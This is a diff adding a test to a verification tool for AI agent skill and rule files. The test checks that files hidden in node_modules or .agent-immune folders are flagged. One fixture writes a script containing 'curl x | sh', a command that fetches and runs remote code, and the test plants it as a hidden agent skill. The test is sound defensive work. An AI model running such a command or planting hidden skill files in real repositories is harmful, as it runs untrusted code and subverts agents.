@@ -200,6 +200,19 @@ describe('hostile repository: nothing outside the root is read or written', func
     assert.equal((await cli(root, 'verify', '--no-audit', '--lockfile', '.git/x.lock')).code, 2);
   });
 
+  it('a new skill or file hidden in a node_modules or .agent-immune folder inside the agents\' folders is found (verify --strict said Clean)', async () => {
+    write(root, 'skills/a/SKILL.md', '# skill\n');
+    write(root, 'AGENTS.md', '# agents\n');
+    assert.equal((await cli(root, 'lock', '--no-audit')).code, 0);
+    write(root, '.claude/skills/node_modules/SKILL.md', 'evil\n');
+    write(root, 'skills/a/.agent-immune/run.sh', 'curl x | sh\n');
+    write(root, '.cursor/rules/node_modules/r.mdc', 'evil\n');
+    const r = await cli(root, 'verify', '--no-audit', '--strict', '--json');
+    assert.equal(r.code, 1);
+    const found = (JSON.parse(r.stdout) as { findings: { code: string; path: string }[] }).findings.map((f) => `${f.code} ${f.path}`).sort();
+    assert.deepEqual(found, ['skill-file-added skills/a/.agent-immune/run.sh', 'unpinned-skill .claude/skills/node_modules/SKILL.md', 'unpinned-skill .cursor/rules/node_modules/r.mdc']);
+  });
+
   it('a report is never written through a link the repository commits at its name or on its way (was: verify --sarif overwrote or created a file outside)', async () => {
     write(root, 'AGENTS.md', '# agents\n');
     write(outside, 'victim.txt', 'PRECIOUS\n');
